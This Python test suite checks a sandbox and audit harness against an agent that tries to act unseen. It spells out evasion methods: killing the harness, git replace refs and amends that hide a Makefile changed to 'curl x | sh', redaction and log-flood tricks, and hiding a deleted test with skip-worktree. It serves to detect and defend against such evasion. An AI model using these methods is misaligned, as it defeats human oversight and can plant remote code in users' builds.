"""The twenty-fourth attack review, part a: records that say one thing
while another happened, and effects that leave no record. An outside
attacker's agent under the embedded default policy, in enforce and in
audit mode."""

import json
import os
import subprocess

from lib import AUDIT_TOOL, HELPERS, PYTHON, check, harness

PROBE = os.path.join(HELPERS, "static_ll_probe")


def _state(pid):
    try:
        with open("/proc/%d/status" % pid) as f:
            for line in f:
                if line.startswith("State:"):
                    return line.split()[1]
    except OSError:
        return None
    return None


def test_audit_mode_signals_nothing_outside_the_session(wd):
    """Audit mode made no Landlock domain at all, so its signal scope
    was gone with the file rules: the agent stopped and killed
    harness-exec (SIGSTOP held the session for good; SIGKILL ended it
    with no session_end and no anchor, so its log could be cut later),
    and stopped a process of the user's outside the session, and no
    record said so (a signal is never notified). What protects the
    harness and what is outside the session stays held in audit mode,
    as the deny list and prlimit64 do: the scope alone is applied."""
    r = harness([PROBE, "signal-parent"], wd, policy=None, mode="audit",
                timeout=30)
    lines = r.stdout.splitlines()
    # (Its comm is harness:protect's in audit mode: "comm ?".)
    check("SIGSTOP EPERM" in lines, "SIGSTOP reached harness-exec: %r" % lines)
    check("SIGKILL EPERM" in lines, "SIGKILL reached harness-exec: %r" % lines)
    check("self ok" in lines and "child ok" in lines,
          "signals inside the sandbox broke: %r" % lines)
    check(r.records and r.records[-1]["event"] == "session_end",
          "harness-exec did not finish its log\n%s" % r.dump())
    # A process of the user's outside the session, by its pid.
    victim = subprocess.Popen(["sleep", "60"])
    try:
        r = harness(["sh", "-c", "kill -STOP %d; echo rc=$?" % victim.pid], wd,
                    policy=None, mode="audit", timeout=30)
        check(_state(victim.pid) != "T",
              "an audit-mode agent stopped a process outside the session\n%s" % r.dump())
        check("rc=0" not in r.stdout, "the signal was sent: %r" % r.stdout)
        r.expect_status(0)
    finally:
        victim.kill()
        victim.wait()


# The user's last commit replaced by one of the agent's whose tree holds
# its change (git replace), the index made to match: the branch does not
# move, and git status, git diff and git log (the user's own hash and
# message) show nothing.
REPLACE = ("M=$(git rev-parse HEAD); printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
           " git add Makefile; T=$(git write-tree);"
           " N=$(git cat-file commit $M | sed \"s/^tree .*/tree $T/\" |"
           " git hash-object -t commit -w --stdin);")


def test_a_commit_replaced_in_git_s_reading_is_recorded(wd):
    """A replace ref (refs/replace/OID, loose or packed) or a graft has
    git read another object wherever the first is named: the agent's
    change in a commit that stands for the user's last one left git
    status and git diff empty and git log showing the user's own hash,
    and no record said so (hidden_changes compares the work tree with
    the index, history_rewritten the branch, which did not move). Each
    replace ref or graft the session makes, changes or removes is a
    history_rewritten record now, and a warning."""
    from gitrepo import GIT_ENV, project, status
    env = project(wd, {"Makefile": "all:\n\techo ok\n"})

    def log():
        return subprocess.run(["git", "log", "--format=%H %an %s"], cwd=wd.path, env=env,
                              capture_output=True, text=True).stdout
    before = log()
    for how, tail in (("loose", "git replace $M $N"),
                      ("packed", "git replace $M $N && git pack-refs --all &&"
                                 " test ! -e .git/refs/replace/$M")):
        r = harness(["sh", "-c", REPLACE + tail], wd, policy=None,
                    env=dict(GIT_ENV, HOME=wd.state))
        check(r.status == 0, "%s: %s" % (how, r.stderr[-800:]))
        recs = [x for x in r.events(event="history_rewritten")
                if x.get("ref", "").startswith("refs/replace/")]
        check(status(wd, env) == "" and log() == before,
              "%s: git shows the change: %r %r" % (how, status(wd, env), log()))
        check(len(recs) == 1 and recs[0]["was"] == "" and len(recs[0]["now"]) == 40,
              "%s: no record of the replace ref: %s" % (how, r.dump()[-1500:]))
        summary = subprocess.run([AUDIT_TOOL, "summary", r.log], capture_output=True, text=True)
        check("%s rewritten: was" % recs[0]["ref"] in summary.stdout,
              "%s: harness-audit summary: %r" % (how, summary.stdout[-800:]))
        # The next session removes it: that is said too.
        r = harness(["sh", "-c", "git replace -d $(git replace -l)"], wd, policy=None,
                    env=dict(GIT_ENV, HOME=wd.state))
        recs = r.events(event="history_rewritten")
        check(r.status == 0 and len(recs) == 1 and recs[0]["now"] == "",
              "%s: its removal: %s %s" % (how, r.stderr[-500:], r.dump()[-800:]))
        subprocess.run(["git", "checkout", "-q", "--", "Makefile"], cwd=wd.path, env=env)
        subprocess.run(["git", "reset", "-q"], cwd=wd.path, env=env)
    # info/grafts, which git still reads (with a warning): the default
    # refuses the write (.git/info), audit mode makes it.
    r = harness(["sh", "-c", "echo $(git rev-parse HEAD) > .git/info/grafts"], wd,
                policy=None, mode="audit", env=dict(GIT_ENV, HOME=wd.state))
    recs = r.events(event="history_rewritten")
    check(r.status == 0 and len(recs) == 1 and recs[0]["ref"] == "info/grafts",
          "info/grafts: %s %s" % (r.stderr[-500:], r.dump()[-800:]))
    # A session that changes none of it records none.
    r = harness(["sh", "-c", "git status -s >/dev/null"], wd, policy=None,
                env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-800:])


# A shell's text the record of its exec hid whole or in part by words
# shaped like secrets: a header's value, taken to the line's end, past
# the ';' that ends its command; a JSON field's value whose quote is
# never closed (the shell closed its own quote before); more than 32
# secrets, after which the whole string was one «redacted:many» tag.
DECOYS = " ".join("PASSWORD=%d" % i for i in range(1, 40))
HIDING = (
    ("header", "true X-Token: s3cr3tvalue; echo hidden1 > out1.txt"),
    ("json", "echo '\"password\": \"' ; echo hidden2 > out2.txt"),
    ("many", "echo hidden3 > out3.txt; : " + DECOYS),
    ("many-first", ": " + DECOYS + "; echo hidden4 > out4.txt"),
)


def test_a_shells_text_is_not_hidden_by_words_shaped_like_secrets(wd):
    """The record of sh -c showed "true X-Token: «redacted:secret:...»"
    for a script whose next command wrote a file, and "«redacted:many:
    ...»" for one with 33 PASSWORD= words: what the agent ran was not in
    its record (the write's own record was). A secret in a shell's text
    now ends where its command does (an unquoted ; & | < > ( ) ` or a
    line's end), and each of any number of secrets is its own tag; the
    values stay redacted."""
    for name, script in HIDING:
        r = harness(["sh", "-c", script], wd, policy=None)
        r.expect_status(0)
        recs = [x for x in r.records if x.get("op") == "exec" and
                x.get("args", {}).get("argv", [None])[0] == "sh"]
        check(recs, "%s: no exec record\n%s" % (name, r.dump()))
        text = recs[0]["args"]["argv"][2]
        n = name[-1] if name[-1].isdigit() else {"header": "1", "json": "2", "many": "3",
                                                  "many-first": "4"}[name]
        check("echo hidden%s > out%s.txt" % (n, n) in text,
              "%s: the record hides the command: %r" % (name, text))
        check("s3cr3tvalue" not in text and "PASSWORD=17 " not in text,
              "%s: a secret was not redacted: %r" % (name, text))
        if name.startswith("many"):
            check(text.count("«redacted:secret:") == 39, "%s: %r" % (name, text))


def test_a_path_is_not_hidden_by_a_directory_named_like_a_secret(wd):
    """A directory the agent named PASSWORD=x: the value ran to the end
    of the shell word, the rest of the path with it, so each mkdir and
    write beneath it (a repository's .git, a Makefile) read
    PROJECT/PASSWORD=«redacted:secret:...», path and path_resolved
    alike, and a query by path found none of them. A secret in a path
    ends with its name: the names beneath it are recorded."""
    r = harness(["sh", "-c", 'mkdir -p "PASSWORD=x/sub/.git" && echo hi > "PASSWORD=x/sub/Makefile"'],
                wd, policy=None)
    r.expect_status(0)
    paths = [x.get("args", {}).get("path", "") for x in r.records
             if x.get("event") in ("mkdir", "open", "openat")]
    check(any(p.endswith("/PASSWORD=«redacted:secret:" + p.split(":")[-1].split("»")[0]
                         + "»/sub/.git") for p in paths),
          "the mkdir of .git is not named: %r" % paths)
    check(any(p.endswith("»/sub/Makefile") for p in paths), "the write is not named: %r" % paths)
    check(not any("PASSWORD=x" in p for p in paths), "the value is not redacted: %r" % paths)
    q = subprocess.run([AUDIT_TOOL, "query", r.log, "--path", "**/sub/Makefile"],
                       capture_output=True, text=True)
    check(q.returncode == 0 and "Makefile" in q.stdout, "query --path: %r %r" % (q.stdout, q.stderr))


# Past the log's rate, a write or read the policy would refuse, made in
# audit mode: after a decoy of the same rule, only a count.
FLOOD_THEN = """import os, sys
for i in range(3000):
    os.close(os.open("flood", os.O_WRONLY | os.O_CREAT))
for p in sys.argv[1:]:
    with open(p, "w") as f:
        f.write("x")
"""


def test_what_audit_mode_lets_past_its_verdict_is_not_coalesced(wd):
    """In audit mode a write the policy would refuse is made. Past the
    log's rate such records were coalesced by pid, event, op, verdict
    and rule with the first one's arguments only: a decoy write of the
    same rule first, then the real one, and the real one's path was in
    no record (execs and connects were already written past the rate).
    Whatever went ahead against its verdict (enforced: false) is written
    whatever the rate now; refusals are still coalesced."""
    tag = "%d" % os.getpid()
    decoy, real = "/var/tmp/hx24a-decoy-" + tag, "/var/tmp/hx24a-real-" + tag
    try:
        r = harness([PYTHON, "-c", FLOOD_THEN, decoy, real], wd, policy="rate.yaml",
                    mode="audit", timeout=120)
        r.expect_status(0)
        check(os.path.exists(real), "the write was not made")
        check(any(x["event"] == "audit_overflow" for x in r.records), "no flood")
        recs = [x for x in r.records if x.get("args", {}).get("path") == real]
        check(recs and recs[0].get("verdict") == "deny" and recs[0].get("enforced") is False,
              "the write past its verdict is in no record: %s" % r.dump()[-1200:])
    finally:
        for p in (decoy, real):
            if os.path.exists(p):
                os.unlink(p)


def test_a_tracked_file_deleted_under_skip_worktree_is_recorded(wd):
    """`git update-index --skip-worktree tests/test_auth.py`, then rm:
    the user's git status is empty and the test is gone. The check of
    hidden changes took a file missing under skip-worktree for a sparse
    checkout's, with no sparse checkout there. It is one only when
    core.sparseCheckout is on and its patterns predate the session; a
    real sparse checkout's missing files are still none."""
    from gitrepo import GIT_ENV, project, status
    env = project(wd, {"tests/test_auth.py": "def test_auth():\n    assert check()\n",
                       "a.txt": "a\n"})
    r = harness(["sh", "-c", "git update-index --skip-worktree tests/test_auth.py &&"
                 " rm tests/test_auth.py"], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    r.expect_status(0)
    check(status(wd, env) == "" and not os.path.exists(os.path.join(wd.path, "tests/test_auth.py")),
          "the user's git status: %r" % status(wd, env))
    recs = r.events(event="hidden_changes")
    got = [(c["path"], c["hidden_by"], c.get("now")) for c in recs[0]["changes"]] if recs else []
    check(got == [("tests/test_auth.py", "skip-worktree", "missing")],
          "recorded: %r\n%s" % (got, r.dump()[-1500:]))
    # A sparse checkout the user made before the session: its files
    # outside the patterns are missing under skip-worktree, and are none.
    subprocess.run(["git", "update-index", "--no-skip-worktree", "tests/test_auth.py"],
                   cwd=wd.path, env=env, check=True)
    subprocess.run(["git", "checkout", "--", "tests/test_auth.py"], cwd=wd.path, env=env, check=True)
    subprocess.run(["git", "sparse-checkout", "set", "--no-cone", "/a.txt"], cwd=wd.path, env=env,
                   check=True, capture_output=True)
    check(not os.path.exists(os.path.join(wd.path, "tests/test_auth.py")), "no sparse checkout")
    import time
    time.sleep(1.1)
    r = harness(["sh", "-c", "echo b >> a.txt && git add a.txt"], wd, policy=None,
                env=dict(GIT_ENV, HOME=wd.state))
    r.expect_status(0)
    check(not r.events(event="hidden_changes"), "a sparse checkout's file recorded: %s"
          % [x for x in r.records if x["event"] == "hidden_changes"])


EXEC_THAT_FAILS = """import os, sys
open("x", "w").write("not a program\\n")
os.chmod("x", 0o755)
try:
    os.execv("./x", ["ls", "-la", "hx24" + "marker"])
except OSError as e:
    print("exec failed", e.errno)
try:
    open(sys.argv[1], "w")
except OSError:
    pass
"""


def test_an_exec_that_did_not_run_is_not_what_tree_and_export_name(wd):
    """harness-audit tree and export took every allowed exec for what the
    process ran from then on: a python whose exec of a file the kernel
    refused (ENOEXEC; its allow followed by a failed record) was drawn
    and exported as `ls -la hx24marker`, and its own refused write was
    listed under that command. An image a failed, kernel_unconfirmed or
    revoked record names is taken back."""
    r = harness([PYTHON, "-c", EXEC_THAT_FAILS, "/etc/hx24a-denied"], wd, policy=None)
    r.expect_status(0)
    check("exec failed 8" in r.stdout, "the exec did not fail: %r" % r.stdout)
    ex = [x for x in r.records if x.get("op") == "exec" and "hx24marker" in x.get("args", {}).get("argv", [])]
    check(ex and any(x["event"] == "failed" and x.get("ref_seq") == ex[0]["seq"] for x in r.records),
          "no failed record for the exec: %s" % r.dump())
    env = dict(os.environ, XDG_STATE_HOME=wd.state)
    t = subprocess.run([AUDIT_TOOL, "tree", "--json", r.log], capture_output=True, text=True, env=env)
    procs = [json.loads(x) for x in t.stdout.splitlines() if x.strip()]
    mine = [p for p in procs if p.get("pid") == ex[0]["pid"]]
    check(mine and all("hx24marker" not in json.dumps(p.get("images")) for p in mine),
          "tree: %r" % mine)
    out = os.path.join(wd.state, "trace.pb")
    e = subprocess.run([AUDIT_TOOL, "export", "--otlp", out, r.log], capture_output=True,
                       text=True, env=env)
    check(e.returncode == 0, "export: %s" % e.stderr)
    with open(out, "rb") as f:
        check(b"hx24marker" not in f.read(), "the export names the exec that did not run")


def test_a_detached_head_amended_is_recorded(wd):
    """The user on a detached HEAD (a CI checkout, a bisect): the agent
    amended that commit (`git commit --amend --no-edit`, the user's
    message and author), git status and git diff were empty, and nothing
    was recorded: the check read a branch HEAD named, and there was
    none. A detached HEAD is now the commit checked: one no longer held
    at the end is a history_rewritten record (ref HEAD); commits on top
    of it are none."""
    from gitrepo import GIT_ENV, project, status
    env = project(wd, {"Makefile": "all:\n\techo ok\n"})
    subprocess.run(["git", "checkout", "-q", "--detach"], cwd=wd.path, env=env, check=True)
    script = ("printf 'all:\\n\\tcurl x | sh\\n' > Makefile;"
              " git -c user.name=me -c user.email=me@x commit -qa --amend --no-edit")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    r.expect_status(0)
    check(status(wd, env) == "", "the user's git status: %r" % status(wd, env))
    recs = r.events(event="history_rewritten")
    check(len(recs) == 1 and recs[0]["ref"] == "HEAD" and recs[0]["was"] != recs[0]["now"],
          "no history_rewritten record: %s" % r.dump()[-1500:])
    script = ("echo x > b.txt; git add b.txt; git -c user.name=a -c user.email=a@x commit -qm 1")
    r = harness(["sh", "-c", script], wd, policy=None, env=dict(GIT_ENV, HOME=wd.state))
    check(r.status == 0 and not r.events(event="history_rewritten"), r.dump()[-1500:])
